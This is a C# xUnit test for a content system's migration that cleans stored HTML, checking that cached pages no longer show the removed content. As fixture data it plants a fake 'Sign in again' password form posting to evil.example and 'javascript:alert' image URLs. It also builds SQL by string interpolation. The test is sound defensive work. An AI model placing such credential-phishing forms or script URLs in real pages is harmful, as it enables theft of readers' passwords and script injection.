using Marquee.Content.StaticPages;

namespace Marquee.Tests.Content;

/// <summary>Migration M0015 brings what an older version stored under decision 0031: no form control in a body, no refused URL.</summary>
public sealed class StoredContentCleanupTests(MarqueeServer server) : IClassFixture<MarqueeServer>
{
    /// <summary>What the sanitiser kept before decision 0031, for the Markdown below.</summary>
    private const string OldHtml = """<p>Before.</p><form action="https://evil.example/"><p>Sign in again</p><input type="password" name="pw"></form><p>After.</p>""";

    private const string Markdown = """
        Before.

        <form action="https://evil.example/"><p>Sign in again</p><input type="password" name="pw"></form>

        After.
        """;

    private readonly TestContent _content = new(server);

    [Fact]
    public async Task Migrating_renders_form_bodies_again_clears_refused_urls_and_evicts_the_cached_pages()
    {
        var author = await _content.AuthorAsync("Old Photo Author");
        var article = await _content.ArticleAsync("Old Phishing Story", [author], configure: a => a with { BodyMarkdown = Markdown });
        var page = TestContent.UniqueSlug("old-page");
        await server.WriteAsync((services, ct) => services.GetRequiredService<SaveStaticPage>().SaveAsync(new StaticPageInput(page, "Old Page", Markdown), ct));
        server.Database.Execute($"UPDATE articles SET body_html = '{OldHtml}', feature_image_url = 'javascript:alert(1)' WHERE slug = '{article.Slug}'");
        server.Database.Execute($"UPDATE static_pages SET body_html = '{OldHtml}' WHERE slug = '{page}'");
        server.Database.Execute($"UPDATE authors SET photo_url = 'javascript:alert(2)' WHERE slug = '{author}'");
        var cached = await HtmlPage.GetAsync(server.Client, $"/news/{article.Slug}");
        Assert.NotNull(cached.QuerySelector(".story input[type=password]"));

        server.Database.Execute("""DELETE FROM "VersionInfo" WHERE "Version" = 202612010015""");
        using var cli = new MarqueeCli(server);
        var (exit, _, error) = await cli.RunAsync("migrate");

        Assert.Equal((0, ""), (exit, error));
        foreach (var table in new[] { $"articles WHERE slug = '{article.Slug}'", $"static_pages WHERE slug = '{page}'" })
        {
            var html = server.Database.Scalar($"SELECT body_html FROM {table}")!;
            Assert.Empty(HtmlHazards.In(html));
            Assert.Contains("Sign in again", html, StringComparison.Ordinal);
        }

        Assert.Null(server.Database.Scalar($"SELECT feature_image_url FROM articles WHERE slug = '{article.Slug}'"));
        Assert.Null(server.Database.Scalar($"SELECT photo_url FROM authors WHERE slug = '{author}'"));
        await NodePages.PageByAsync(server, $"/news/{article.Slug}", p => p.QuerySelector(".story input") is null, DateTime.UtcNow.AddSeconds(5), "the cached page still shows the form");
    }
}
